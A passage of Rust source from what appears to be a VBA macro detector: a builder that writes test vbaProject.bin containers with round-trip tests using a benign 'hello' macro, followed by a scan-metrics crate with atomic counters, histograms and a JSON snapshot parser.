    /// Creates a builder for a project named `name`.
    pub fn new(name: &str) -> Self {
        VbaProjectBuilder {
            name: name.to_string(),
            modules: Vec::new(),
        }
    }

    /// Adds a procedural module with the given source code.
    pub fn add_module(&mut self, name: &str, code: &str) -> &mut Self {
        self.modules
            .push((name.to_string(), code.to_string(), ModuleType::Procedural));
        self
    }

    /// Marks a previously added module as a document module (e.g.
    /// `ThisDocument`, `ThisWorkbook`).
    pub fn document_module(&mut self, name: &str) -> &mut Self {
        for (n, _, t) in self.modules.iter_mut() {
            if n == name {
                *t = ModuleType::Document;
            }
        }
        self
    }

    /// Writes the project's streams into an existing [`OleBuilder`] under
    /// `root` (empty for `vbaProject.bin`, `"Macros"` for a `.doc`).
    ///
    /// # Errors
    ///
    /// Fails when a module name is not a valid OLE stream name.
    pub fn write_into(&self, ole: &mut OleBuilder, root: &str) -> Result<(), OvbaError> {
        let dir = DirStream {
            name: self.name.clone(),
            modules: self
                .modules
                .iter()
                .map(|(name, _, module_type)| ModuleRecord {
                    name: name.clone(),
                    stream_name: name.clone(),
                    text_offset: 0,
                    module_type: *module_type,
                    read_only: false,
                    private: false,
                })
                .collect(),
            ..DirStream::default()
        };
        ole.add_stream(&join(root, "VBA/dir"), &compress(&dir.serialize()))?;

        // _VBA_PROJECT: version-dependent performance cache; readers only
        // need the 7-byte header (reserved 0x61CC, version, reserved bytes).
        let vba_project_stream: [u8; 7] = [0xCC, 0x61, 0xFF, 0xFF, 0x00, 0x00, 0x00];
        ole.add_stream(&join(root, "VBA/_VBA_PROJECT"), &vba_project_stream)?;

        for (name, code, _) in &self.modules {
            let bytes: Vec<u8> = code
                .chars()
                .map(|c| if (c as u32) < 256 { c as u8 } else { b'?' })
                .collect();
            ole.add_stream(&join(root, &format!("VBA/{name}")), &compress(&bytes))?;
        }

        // PROJECT stream: the textual project description Office writes.
        let mut project_text = String::new();
        project_text.push_str("ID=\"{00000000-0000-0000-0000-000000000000}\"\r\n");
        for (name, _, module_type) in &self.modules {
            match module_type {
                ModuleType::Document => {
                    project_text.push_str(&format!("Document={name}/&H00000000\r\n"))
                }
                ModuleType::Procedural => project_text.push_str(&format!("Module={name}\r\n")),
            }
        }
        project_text.push_str(&format!("Name=\"{}\"\r\n", self.name));
        project_text.push_str("HelpContextID=\"0\"\r\n");
        project_text.push_str("VersionCompatible32=\"393222000\"\r\n");
        project_text.push_str("CMG=\"0000\"\r\nDPB=\"0000\"\r\nGC=\"0000\"\r\n");
        ole.add_stream(&join(root, "PROJECT"), project_text.as_bytes())?;

        // PROJECTwm: module-name map (MBCS name NUL UTF-16 name NUL NUL,
        // terminated by two NULs).
        let mut wm = Vec::new();
        for (name, _, _) in &self.modules {
            wm.extend(name.bytes());
            wm.push(0);
            wm.extend(name.encode_utf16().flat_map(|u| u.to_le_bytes()));
            wm.extend_from_slice(&[0, 0]);
        }
        wm.extend_from_slice(&[0, 0]);
        ole.add_stream(&join(root, "PROJECTwm"), &wm)?;
        Ok(())
    }

    /// Builds standalone `vbaProject.bin` bytes.
    ///
    /// # Errors
    ///
    /// Fails when a module name is not a valid OLE stream name.
    pub fn build(&self) -> Result<Vec<u8>, OvbaError> {
        let mut ole = OleBuilder::new();
        self.write_into(&mut ole, "")?;
        Ok(ole.build())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn two_module_project() -> VbaProjectBuilder {
        let mut b = VbaProjectBuilder::new("VBAProject");
        b.add_module(
            "ThisDocument",
            "Attribute VB_Name = \"ThisDocument\"\r\nSub Document_Open()\r\n    Run\r\nEnd Sub\r\n",
        )
        .document_module("ThisDocument");
        b.add_module(
            "Module1",
            "Attribute VB_Name = \"Module1\"\r\nSub Run()\r\n    MsgBox \"hello\"\r\nEnd Sub\r\n",
        );
        b
    }

    #[test]
    fn build_extract_roundtrip() {
        let bin = two_module_project().build().unwrap();
        let ole = OleFile::parse(&bin).unwrap();
        let project = VbaProject::from_ole(&ole).unwrap();
        assert_eq!(project.name, "VBAProject");
        assert_eq!(project.root, "");
        assert_eq!(project.modules.len(), 2);
        assert_eq!(project.modules[0].name, "ThisDocument");
        assert_eq!(project.modules[0].module_type, ModuleType::Document);
        assert!(project.modules[0].code.contains("Document_Open"));
        assert_eq!(project.modules[1].name, "Module1");
        assert!(project.modules[1].code.contains("MsgBox \"hello\""));
    }

    #[test]
    fn word_style_macros_root() {
        let mut ole = OleBuilder::new();
        ole.add_stream("WordDocument", &vec![0u8; 4096]).unwrap();
        two_module_project().write_into(&mut ole, "Macros").unwrap();
        let parsed = OleFile::parse(&ole.build()).unwrap();
        let project = VbaProject::from_ole(&parsed).unwrap();
        assert_eq!(project.root, "Macros");
        assert_eq!(project.modules.len(), 2);
    }

    #[test]
    fn excel_style_root() {
        let mut ole = OleBuilder::new();
        ole.add_stream("Workbook", &vec![0u8; 4096]).unwrap();
        two_module_project()
            .write_into(&mut ole, "_VBA_PROJECT_CUR")
            .unwrap();
        let parsed = OleFile::parse(&ole.build()).unwrap();
        let project = VbaProject::from_ole(&parsed).unwrap();
        assert_eq!(project.root, "_VBA_PROJECT_CUR");
    }

    #[test]
    fn unusual_root_found_by_fallback_scan() {
        let mut ole = OleBuilder::new();
        two_module_project()
            .write_into(&mut ole, "OddRoot")
            .unwrap();
        let parsed = OleFile::parse(&ole.build()).unwrap();
        let project = VbaProject::from_ole(&parsed).unwrap();
        assert_eq!(project.root, "OddRoot");
    }

    #[test]
    fn no_project_reported() {
        let mut ole = OleBuilder::new();
        ole.add_stream("WordDocument", b"not a macro doc").unwrap();
        let parsed = OleFile::parse(&ole.build()).unwrap();
        assert!(matches!(
            VbaProject::from_ole(&parsed),
            Err(OvbaError::NoVbaProject)
        ));
    }

    #[test]
    fn missing_module_stream_reported() {
        // Hand-build a project whose dir references a stream that is absent.
        let dir = DirStream {
            modules: vec![ModuleRecord {
                name: "Ghost".to_string(),
                stream_name: "Ghost".to_string(),
                text_offset: 0,
                module_type: ModuleType::Procedural,
                read_only: false,
                private: false,
            }],
            ..DirStream::default()
        };
        let mut ole = OleBuilder::new();
        ole.add_stream("VBA/dir", &compress(&dir.serialize()))
            .unwrap();
        let parsed = OleFile::parse(&ole.build()).unwrap();
        assert!(matches!(
            VbaProject::from_ole(&parsed),
            Err(OvbaError::MissingModuleStream(_))
        ));
    }

    #[test]
    fn bad_text_offset_reported() {
        let dir = DirStream {
            modules: vec![ModuleRecord {
                name: "M".to_string(),
                stream_name: "M".to_string(),
                text_offset: 10_000,
                module_type: ModuleType::Procedural,
                read_only: false,
                private: false,
            }],
            ..DirStream::default()
        };
        let mut ole = OleBuilder::new();
        ole.add_stream("VBA/dir", &compress(&dir.serialize()))
            .unwrap();
        ole.add_stream("VBA/M", &compress(b"Sub A()\r\nEnd Sub\r\n"))
            .unwrap();
        let parsed = OleFile::parse(&ole.build()).unwrap();
        assert!(matches!(
            VbaProject::from_ole(&parsed),
            Err(OvbaError::BadModuleOffset { .. })
        ));
    }

    #[test]
    fn nonzero_text_offset_skips_performance_cache() {
        // Simulate Office's performance cache: junk bytes before the
        // compressed source, with the dir offset pointing past them.
        let code = b"Sub Cached()\r\nEnd Sub\r\n";
        let mut stream = vec![0xEEu8; 321];
        stream.extend_from_slice(&compress(code));
        let dir = DirStream {
            modules: vec![ModuleRecord {
                name: "M".to_string(),
                stream_name: "M".to_string(),
                text_offset: 321,
                module_type: ModuleType::Procedural,
                read_only: false,
                private: false,
            }],
            ..DirStream::default()
        };
        let mut ole = OleBuilder::new();
        ole.add_stream("VBA/dir", &compress(&dir.serialize()))
            .unwrap();
        ole.add_stream("VBA/M", &stream).unwrap();
        let parsed = OleFile::parse(&ole.build()).unwrap();
        let project = VbaProject::from_ole(&parsed).unwrap();
        assert_eq!(project.modules[0].code, String::from_utf8_lossy(code));
    }

    #[test]
    fn large_module_roundtrips() {
        let body = "Sub Large()\r\n".to_string()
            + &"    Call Helper(1, 2, 3)\r\n".repeat(3000)
            + "End Sub\r\n";
        let mut b = VbaProjectBuilder::new("P");
        b.add_module("Big", &body);
        let ole = OleFile::parse(&b.build().unwrap()).unwrap();
        let project = VbaProject::from_ole(&ole).unwrap();
        assert_eq!(project.modules[0].code, body);
    }
}
