//! Std-only pipeline observability for the scanning stack.
//!
//! A production triage run is useless as a black box: when throughput
//! drops, the operator needs to know whether the time went into ZIP
//! inflation, OLE sector walks, MS-OVBA decompression, feature scoring or
//! journal fsyncs. This crate provides the three pieces that answer that
//! question without slowing the answer down:
//!
//! - [`MetricsSink`]: a cheap cloneable handle, either *disabled* (every
//!   operation is a null-pointer check and a return — the default, so
//!   unmetered scans pay nothing) or *enabled* (an `Arc` over fixed
//!   arrays of relaxed atomics shared by every clone).
//! - [`Counter`] / [`Stage`]: the closed vocabulary of what the scanning
//!   pipeline counts and times. Counters are **deterministic**: for a
//!   given input corpus and policy they must not depend on thread
//!   interleaving, which is what lets the batch engine promise identical
//!   counters for sequential and parallel runs. Stages are wall-clock
//!   timers and pool-shape histograms, and are explicitly *not* covered
//!   by that promise.
//! - [`ScanMetrics`]: an immutable snapshot of a sink, with a stable
//!   sorted JSON rendering ([`ScanMetrics::to_json`]), a hand-rolled
//!   parser ([`ScanMetrics::from_json`]) and a human-readable table
//!   ([`ScanMetrics::render_text`]).
//!
//! Timers use log2-bucketed histograms: recording is one `Instant` pair
//! per *stage entry* (never per byte or per loop iteration) plus three
//! relaxed atomic adds, so instrumentation overhead stays within noise of
//! the scan itself. The hot parsing loops record only counters — single
//! relaxed `fetch_add`s at work already coarse enough to carry a
//! `Budget::charge`.

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Instant;

/// Number of log2 buckets per histogram. Bucket `i` holds values `v` with
/// `floor(log2(v)) == i` (bucket 0 also holds `v == 0`); the last bucket
/// saturates. 40 buckets cover nanosecond timings up to ~18 minutes.
pub const HISTOGRAM_BUCKETS: usize = 40;

macro_rules! metric_enum {
    ($(#[$doc:meta])* $name:ident { $($(#[$vdoc:meta])* $variant:ident => $label:literal,)+ }) => {
        $(#[$doc])*
        #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
        pub enum $name {
            $($(#[$vdoc])* $variant,)+
        }

        impl $name {
            /// Every variant, in declaration order.
            pub const ALL: &'static [$name] = &[$($name::$variant,)+];

            /// Stable dotted name used in snapshots, JSON and reports.
            pub fn label(self) -> &'static str {
                match self {
                    $($name::$variant => $label,)+
                }
            }

            #[inline]
            fn idx(self) -> usize {
                self as usize
            }
        }
    };
}

metric_enum! {
    /// Deterministic work counters, one per pipeline event worth
    /// aggregating. For a fixed corpus and policy these must not depend
    /// on scheduling: the parallel batch engine asserts sequential ==
    /// parallel totals over exactly this set.
    Counter {
        /// ZIP central directories parsed.
        ZipParses => "zip.parses",
        /// ZIP central-directory entries decoded.
        ZipEntries => "zip.entries",
        /// ZIP members fully extracted and CRC-checked.
        ZipMembersRead => "zip.members_read",
        /// Deflate blocks decoded by the inflater.
        ZipInflateBlocks => "zip.inflate_blocks",
        /// Bytes produced by deflate decompression.
        ZipBytesInflated => "zip.bytes_inflated",
        /// Bytes copied out of stored (uncompressed) members.
        ZipBytesStored => "zip.bytes_stored",
        /// OLE compound files successfully parsed.
        OleParses => "ole.parses",
        /// Sectors split out of compound-file bodies.
        OleSectors => "ole.sectors",
        /// DIFAT sectors walked.
        OleDifatSectors => "ole.difat_sectors",
        /// FAT sectors decoded from the DIFAT.
        OleFatSectors => "ole.fat_sectors",
        /// Directory entries decoded.
        OleDirEntries => "ole.dir_entries",
        /// FAT/miniFAT chain walks performed.
        OleChainReads => "ole.chain_reads",
        /// Bytes materialized by chain walks.
        OleChainBytes => "ole.chain_bytes",
        /// MS-OVBA containers decompressed (strict decoder).
        OvbaDecompressCalls => "ovba.decompress_calls",
        /// MS-OVBA chunks decoded (strict + salvage decoders).
        OvbaChunks => "ovba.chunks",
        /// Bytes produced by strict MS-OVBA decompression.
        OvbaBytesOut => "ovba.bytes_out",
        /// Salvage sweeps over raw byte buffers.
        OvbaSalvageScans => "ovba.salvage_scans",
        /// Candidate container signatures the salvage sweep tried.
        OvbaSalvageCandidates => "ovba.salvage_candidates",
        /// Modules the salvage sweep actually recovered.
        OvbaSalvageModules => "ovba.salvage_modules",
        /// Documents entering the extraction layer.
        ExtractDocs => "extract.docs",
        /// Extractions that parsed cleanly per MS-OVBA.
        ExtractParsed => "extract.parsed",
        /// Extractions recovered by the salvage scanner.
        ExtractSalvaged => "extract.salvaged",
        /// First-rung (full-parse) ladder attempts.
        LadderFullAttempts => "ladder.full_attempts",
        /// Strict-limits ladder re-parses.
        LadderStrictAttempts => "ladder.strict_attempts",
        /// Salvage-only ladder sweeps.
        LadderSalvageAttempts => "ladder.salvage_attempts",
        /// Documents rescued below the top rung.
        LadderRecovered => "ladder.recovered",
        /// Documents decided by the batch engine.
        ScanDocs => "scan.docs",
        /// Documents that parsed with no macros.
        ScanClean => "scan.clean",
        /// Documents with cleanly parsed macros.
        ScanMacros => "scan.macros",
        /// Documents whose macros came from salvage.
        ScanSalvaged => "scan.salvaged",
        /// Documents recovered by the degradation ladder.
        ScanRecovered => "scan.recovered",
        /// Documents that could not be scanned.
        ScanFailed => "scan.failed",
        /// Modules scored by the detector.
        ScanModulesScored => "scan.modules_scored",
        /// Scored modules flagged as obfuscated.
        ScanModulesFlagged => "scan.modules_flagged",
        /// Failures classified as cyclic sector chains.
        ScanFailedCyclicChain => "scan.failed.cyclic-chain",
        /// Failures classified as resource-limit breaches.
        ScanFailedLimitExceeded => "scan.failed.limit-exceeded",
        /// Failures classified as truncated structures.
        ScanFailedTruncated => "scan.failed.truncated",
        /// Failures classified as otherwise malformed.
        ScanFailedMalformed => "scan.failed.malformed",
        /// Failures on unrecognized container bytes.
        ScanFailedUnknownContainer => "scan.failed.unknown-container",
        /// OOXML archives with no VBA part.
        ScanFailedNoVbaPart => "scan.failed.no-vba-part",
        /// Failures reading the file from disk.
        ScanFailedIo => "scan.failed.io-error",
        /// Contained scanner panics.
        ScanFailedPanic => "scan.failed.panic",
        /// Per-document budget trips.
        ScanFailedTimeout => "scan.failed.timeout",
        /// Fatal worker deaths (abort/signal/OOM) under process isolation.
        ScanFailedFatal => "scan.failed.fatal",
        /// Journal `begin` records written.
        JournalBeginRecords => "journal.begin_records",
        /// Journal `done` records written.
        JournalDoneRecords => "journal.done_records",
        /// Journal fsyncs issued.
        JournalSyncs => "journal.syncs",
        /// Journal bytes appended.
        JournalBytes => "journal.bytes",
    }
}

metric_enum! {
    /// Histogram-backed stages: wall-clock timers (`*_ns`, recorded once
    /// per stage entry) and worker-pool shape distributions. These vary
    /// run to run and are **excluded** from the sequential == parallel
    /// determinism guarantee.
    Stage {
        /// ZIP central-directory parse, per archive.
        ZipParseNs => "zip.parse_ns",
        /// Deflate inflation of one member.
        ZipInflateNs => "zip.inflate_ns",
        /// OLE compound-file parse, per container.
        OleParseNs => "ole.parse_ns",
        /// VBA project walk + module decompression, per project.
        OvbaProjectNs => "ovba.project_ns",
        /// Salvage sweep, per buffer or stream set.
        OvbaSalvageNs => "ovba.salvage_ns",
        /// Full-parse ladder rung, per document.
        ExtractFullNs => "extract.full_ns",
        /// Strict-limits ladder rung, per document.
        ExtractStrictNs => "extract.strict_ns",
        /// Salvage-only ladder rung, per document.
        ExtractSalvageNs => "extract.salvage_ns",
        /// Detector feature extraction, per scored module.
        FeaturesNs => "scan.features_ns",
        /// Classifier inference over extracted features, per scored module.
        PredictNs => "scan.predict_ns",
        /// Whole single-document scan, end to end.
        DocNs => "scan.doc_ns",
        /// Heap bytes allocated while scanning one document.
        AllocBytesPerDoc => "alloc.bytes_per_doc",
        /// Heap allocations performed while scanning one document.
        AllocCountPerDoc => "alloc.count_per_doc",
        /// One journal append (write + flush + periodic fsync).
        JournalWriteNs => "journal.write_ns",
        /// Worker blocked handing a result to the collector.
        PoolSendWaitNs => "pool.send_wait_ns",
        /// Collector reorder-buffer depth, sampled per arrival.
        PoolReorderDepth => "pool.reorder_depth",
        /// Documents scanned per worker, recorded at worker exit.
        PoolWorkerDocs => "pool.worker_docs",
        /// Worker processes spawned by the isolation supervisor.
        IsolateSpawns => "isolate.spawns",
        /// Worker processes respawned after a death.
        IsolateRestarts => "isolate.restarts",
        /// Wedged workers SIGKILLed after a missed heartbeat deadline.
        IsolateHeartbeatKills => "isolate.heartbeat_kills",
        /// Documents quarantined after killing a fresh solo worker too.
        IsolateQuarantines => "isolate.quarantines",
        /// Documents scanned per worker process, recorded at worker exit.
        IsolateWorkerDocs => "isolate.worker_docs",
        /// Scan requests admitted past the service's admission queue.
        ServeAccepted => "serve.accepted",
        /// Scan requests shed with a typed `overloaded` rejection.
        ServeShed => "serve.shed",
        /// Circuit-breaker transitions into the open state.
        ServeBreakerOpens => "serve.breaker_opens",
        /// Scan requests rejected while the circuit breaker was open.
        ServeBreakerRejects => "serve.breaker_rejects",
        /// Graceful service drains completed.
        ServeDrains => "serve.drains",
        /// Admission queue depth, sampled as each request is enqueued.
        ServeQueueDepth => "serve.queue_depth",
        /// One service request, admission to terminal response.
        ServeRequestNs => "serve.request_ns",
        /// Scan-cache lookups that returned a stored outcome. Histogram
        /// side deliberately: hit/miss traffic depends on scheduling and
        /// cache state, so it must not perturb the deterministic counters.
        CacheHits => "cache.hits",
        /// Scan-cache lookups that found nothing usable.
        CacheMisses => "cache.misses",
        /// Outcomes inserted into the scan cache.
        CacheInserts => "cache.inserts",
        /// Entries evicted from the in-memory LRU tier.
        CacheEvictions => "cache.evictions",
        /// Approximate serialized size of each inserted entry, in bytes.
        CacheBytes => "cache.bytes",
        /// Model hot-reloads that swapped in a new detector generation.
        ReloadSuccess => "reload.success",
        /// Model hot-reloads rejected (unreadable or malformed model file).
        ReloadFailed => "reload.failed",
        /// One successful reload, file read to generation swap.
        ReloadNs => "reload.swap_ns",
    }
}

/// One live histogram: count, sum, log2 buckets. All relaxed atomics.
#[derive(Debug)]
struct Histogram {
    count: AtomicU64,
    total: AtomicU64,
    buckets: [AtomicU64; HISTOGRAM_BUCKETS],
}

impl Default for Histogram {
    fn default() -> Self {
        Histogram {
            count: AtomicU64::new(0),
            total: AtomicU64::new(0),
            buckets: std::array::from_fn(|_| AtomicU64::new(0)),
        }
    }
}

impl Histogram {
    fn record(&self, value: u64) {
        self.count.fetch_add(1, Ordering::Relaxed);
        self.total.fetch_add(value, Ordering::Relaxed);
        self.buckets[bucket_index(value)].fetch_add(1, Ordering::Relaxed);
    }
}

/// Bucket for a value: `floor(log2(v))`, saturating; 0 maps to bucket 0.
fn bucket_index(value: u64) -> usize {
    if value == 0 {
        0
    } else {
        ((63 - value.leading_zeros()) as usize).min(HISTOGRAM_BUCKETS - 1)
    }
}

#[derive(Debug)]
struct MetricsCore {
    counters: Vec<AtomicU64>,
    histograms: Vec<Histogram>,
}

impl MetricsCore {
    fn new() -> Self {
        MetricsCore {
            counters: (0..Counter::ALL.len()).map(|_| AtomicU64::new(0)).collect(),
            histograms: (0..Stage::ALL.len())
                .map(|_| Histogram::default())
                .collect(),
        }
    }
}

/// A cheap handle to the metrics registry, threaded through the scan
/// alongside [`ScanLimits`]/`Budget`.
///
/// Clones share one registry. The default handle is *disabled*: every
/// recording call is a branch on a `None` and nothing else, so policies
/// that never ask for metrics pay nothing. All recording is `&self` and
/// thread-safe (relaxed atomics — totals are exact, cross-counter
/// consistency is not promised mid-scan).
#[derive(Debug, Clone, Default)]
pub struct MetricsSink(Option<Arc<MetricsCore>>);

impl MetricsSink {
    /// A handle that records nothing. Identical to `MetricsSink::default()`.
    pub fn disabled() -> Self {
        MetricsSink(None)
    }

    /// A fresh, empty, recording registry.
    pub fn enabled() -> Self {
        MetricsSink(Some(Arc::new(MetricsCore::new())))
    }

    /// Whether this handle records anything.
    pub fn is_enabled(&self) -> bool {
        self.0.is_some()
    }

    /// Adds `n` to a counter. A single relaxed `fetch_add` when enabled.
    #[inline]
    pub fn count(&self, counter: Counter, n: u64) {
        if let Some(core) = &self.0 {
            core.counters[counter.idx()].fetch_add(n, Ordering::Relaxed);
        }
    }

    /// Records one raw value (a duration in ns, a queue depth…) into a
    /// stage histogram.
    #[inline]
    pub fn record(&self, stage: Stage, value: u64) {
        if let Some(core) = &self.0 {
            core.histograms[stage.idx()].record(value);
        }
    }

    /// Starts a wall-clock timer for `stage`; the elapsed nanoseconds are
    /// recorded when the returned guard drops. Reads the clock (and clones
    /// the registry `Arc`) only when the sink is enabled, so the guard owns
    /// its target and never pins the sink it was minted from.
    #[inline]
    pub fn time(&self, stage: Stage) -> StageTimer {
        StageTimer {
            armed: self.0.clone().map(|core| (core, stage, Instant::now())),
        }
    }

    /// Snapshots the registry into an immutable [`ScanMetrics`], or `None`
    /// for a disabled sink. Zero counters and empty histograms are
    /// omitted.
    pub fn snapshot(&self) -> Option<ScanMetrics> {
        let core = self.0.as_deref()?;
        let mut counters = BTreeMap::new();
        for &c in Counter::ALL {
            let v = core.counters[c.idx()].load(Ordering::Relaxed);
            if v != 0 {
                counters.insert(c.label().to_string(), v);
            }
        }
        let mut histograms = BTreeMap::new();
        for &s in Stage::ALL {
            let h = &core.histograms[s.idx()];
            let count = h.count.load(Ordering::Relaxed);
            if count == 0 {
                continue;
            }
            let mut buckets: Vec<u64> = h
                .buckets
                .iter()
                .map(|b| b.load(Ordering::Relaxed))
                .collect();
            while buckets.last() == Some(&0) {
                buckets.pop();
            }
            histograms.insert(
                s.label().to_string(),
                HistogramSnapshot {
                    count,
                    total: h.total.load(Ordering::Relaxed),
                    buckets,
                },
            );
        }
        Some(ScanMetrics {
            counters,
            histograms,
        })
    }
}

/// RAII stage timer minted by [`MetricsSink::time`].
#[must_use = "the timer records on drop; binding it to `_` drops it immediately"]
#[derive(Debug)]
pub struct StageTimer {
    armed: Option<(Arc<MetricsCore>, Stage, Instant)>,
}

impl Drop for StageTimer {
    fn drop(&mut self) {
        if let Some((core, stage, start)) = self.armed.take() {
            let ns = u64::try_from(start.elapsed().as_nanos()).unwrap_or(u64::MAX);
            core.histograms[stage.idx()].record(ns);
        }
    }
}

/// Snapshot of one histogram.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct HistogramSnapshot {
    /// Number of recorded values.
    pub count: u64,
    /// Sum of recorded values (nanoseconds for `*_ns` stages).
    pub total: u64,
    /// Log2 buckets, trailing zeros trimmed. `buckets[i]` counts values
    /// with `floor(log2(v)) == i` (bucket 0 also holds zeros).
    pub buckets: Vec<u64>,
}

impl HistogramSnapshot {
    /// Mean recorded value (0 for an empty histogram).
    pub fn mean(&self) -> f64 {
        if self.count == 0 {
            0.0
        } else {
            self.total as f64 / self.count as f64
        }
    }
}

/// Immutable metrics snapshot carried on a `ScanReport` and rendered by
/// the CLI. `counters` is the deterministic section — identical for
/// sequential and parallel runs over the same corpus and policy —
/// `histograms` holds wall-clock timings and pool-shape samples, which
/// are not.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ScanMetrics {
    /// Deterministic event counters, keyed by [`Counter::label`].
    pub counters: BTreeMap<String, u64>,
    /// Timing and pool-shape histograms, keyed by [`Stage::label`].
    pub histograms: BTreeMap<String, HistogramSnapshot>,
}

/// Format name carried by the snapshot's JSON rendering.
pub const METRICS_FORMAT: &str = "vbadet-scan-metrics";
/// Format version carried by the snapshot's JSON rendering.
pub const METRICS_VERSION: u64 = 1;

impl ScanMetrics {
    /// Value of one counter, 0 when absent.
    pub fn counter(&self, name: &str) -> u64 {
        self.counters.get(name).copied().unwrap_or(0)
    }

    /// Total nanoseconds recorded for one stage, 0 when absent.
    pub fn stage_total_ns(&self, name: &str) -> u64 {
        self.histograms.get(name).map_or(0, |h| h.total)
    }

    /// The deterministic counters section alone, as a stable sorted JSON
    /// object. Two runs with equal counters produce byte-identical output,
    /// which is how the engine-equivalence tests compare snapshots.
    pub fn counters_json(&self) -> String {
        let body: Vec<String> = self
            .counters
            .iter()
            .map(|(k, v)| format!("{}:{v}", json_str(k)))
            .collect();
        format!("{{{}}}", body.join(","))
    }

    /// Full snapshot as a single JSON object (stable key order).
    pub fn to_json(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!(
            "{{\n  \"format\": {},\n  \"version\": {METRICS_VERSION},\n",
            json_str(METRICS_FORMAT)
        ));
        out.push_str("  \"counters\": {");
        let counters: Vec<String> = self
            .counters
            .iter()
            .map(|(k, v)| format!("\n    {}: {v}", json_str(k)))
            .collect();
        out.push_str(&counters.join(","));
        if !counters.is_empty() {
            out.push_str("\n  ");
        }
        out.push_str("},\n  \"histograms\": {");
        let histos: Vec<String> = self
            .histograms
            .iter()
            .map(|(k, h)| {
                let buckets: Vec<String> = h.buckets.iter().map(u64::to_string).collect();
                format!(
                    "\n    {}: {{\"count\": {}, \"total\": {}, \"buckets\": [{}]}}",
                    json_str(k),
                    h.count,
                    h.total,
                    buckets.join(",")
                )
            })
            .collect();
        out.push_str(&histos.join(","));
        if !histos.is_empty() {
            out.push_str("\n  ");
        }
        out.push_str("}\n}\n");
        out
    }

    /// Parses a snapshot back from [`ScanMetrics::to_json`] output (or any
    /// whitespace-reformatted equivalent).
    ///
    /// # Errors
    ///
    /// Returns a description of the first syntax problem, a wrong
    /// format/version header, or a malformed section.
    pub fn from_json(text: &str) -> Result<Self, String> {
        parse::snapshot(text)
    }

    /// Human-readable table for `vbadet scan --stats`.
    pub fn render_text(&self) -> String {
        let mut out = String::from("scan metrics — counters (deterministic):\n");
        if self.counters.is_empty() {
            out.push_str("  (none recorded)\n");
        }
        for (name, value) in &self.counters {
            out.push_str(&format!("  {name:<30} {value:>12}\n"));
        }
        out.push_str("scan metrics — stages (wall clock / pool shape):\n");
        if self.histograms.is_empty() {
            out.push_str("  (none recorded)\n");
        }
        for (name, h) in &self.histograms {
            if name.ends_with("_ns") {
                out.push_str(&format!(
                    "  {name:<30} {:>8} × mean {:>10}  total {}\n",
                    h.count,
                    fmt_ns(h.mean() as u64),
                    fmt_ns(h.total),
                ));
            } else {
                out.push_str(&format!(
                    "  {name:<30} {:>8} samples, mean {:.1}, max bucket 2^{}\n",
                    h.count,
                    h.mean(),
                    h.buckets.len().saturating_sub(1),
                ));
            }
        }
        out
    }
}

/// Compact duration formatting for the text report.
fn fmt_ns(ns: u64) -> String {
    match ns {
        0..=9_999 => format!("{ns}ns"),
        10_000..=9_999_999 => format!("{:.1}µs", ns as f64 / 1e3),
        10_000_000..=9_999_999_999 => format!("{:.1}ms", ns as f64 / 1e6),
        _ => format!("{:.2}s", ns as f64 / 1e9),
    }
}

fn json_str(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Hand-rolled parser for the snapshot format: JSON restricted to string
/// keys, unsigned integers, one level of histogram objects and flat bucket
/// arrays — everything [`ScanMetrics::to_json`] can emit, nothing more.
mod parse {
    use super::{HistogramSnapshot, ScanMetrics, METRICS_FORMAT, METRICS_VERSION};
    use std::collections::BTreeMap;

    pub(super) fn snapshot(text: &str) -> Result<ScanMetrics, String> {
        let mut p = Cursor {
            bytes: text.as_bytes(),
            pos: 0,
        };
        p.expect(b'{')?;
        let mut format = None;
        let mut version = None;
        let mut counters = BTreeMap::new();
        let mut histograms = BTreeMap::new();
        loop {
            if p.eat(b'}') {
                break;
            }
            let key = p.string()?;
            p.expect(b':')?;
            match key.as_str() {
                "format" => format = Some(p.string()?),
                "version" => version = Some(p.integer()?),
                "counters" => {
                    p.expect(b'{')?;
                    while !p.eat(b'}') {
                        let name = p.string()?;
                        p.expect(b':')?;
                        counters.insert(name, p.integer()?);
                        p.eat(b',');
                    }
                }
                "histograms" => {
                    p.expect(b'{')?;
                    while !p.eat(b'}') {
                        let name = p.string()?;
                        p.expect(b':')?;
                        histograms.insert(name, histogram(&mut p)?);
                        p.eat(b',');
                    }
                }
                other => return Err(format!("unknown top-level key {other:?}")),
            }
            p.eat(b',');
        }
        p.skip_ws();
        if p.pos != p.bytes.len() {
            return Err(format!("trailing bytes at offset {}", p.pos));
        }
        if format.as_deref() != Some(METRICS_FORMAT) {
            return Err("not a vbadet scan-metrics snapshot".to_string());
        }
        if version != Some(METRICS_VERSION) {
            return Err("unsupported scan-metrics version".to_string());
        }
        Ok(ScanMetrics {
            counters,
            histograms,
        })
    }

    fn histogram(p: &mut Cursor<'_>) -> Result<HistogramSnapshot, String> {
        let mut h = HistogramSnapshot::default();
        p.expect(b'{')?;
        while !p.eat(b'}') {
            let key = p.string()?;
            p.expect(b':')?;
            match key.as_str() {
                "count" => h.count = p.integer()?,
                "total" => h.total = p.integer()?,
                "buckets" => {
                    p.expect(b'[')?;
                    while !p.eat(b']') {
                        h.buckets.push(p.integer()?);
                        p.eat(b',');
                    }
                }
                other => return Err(format!("unknown histogram key {other:?}")),
            }
            p.eat(b',');
        }
        Ok(h)
    }

    struct Cursor<'a> {
        bytes: &'a [u8],
        pos: usize,
    }

    impl Cursor<'_> {
        fn skip_ws(&mut self) {
            while matches!(self.bytes.get(self.pos), Some(b' ' | b'\t' | b'\n' | b'\r')) {
                self.pos += 1;
            }
        }

        fn expect(&mut self, b: u8) -> Result<(), String> {
            self.skip_ws();
            if self.bytes.get(self.pos) == Some(&b) {
                self.pos += 1;
                Ok(())
            } else {
                Err(format!("expected {:?} at offset {}", b as char, self.pos))
            }
        }

        fn eat(&mut self, b: u8) -> bool {
            self.skip_ws();
            if self.bytes.get(self.pos) == Some(&b) {
                self.pos += 1;
                true
            } else {
                false
            }
        }

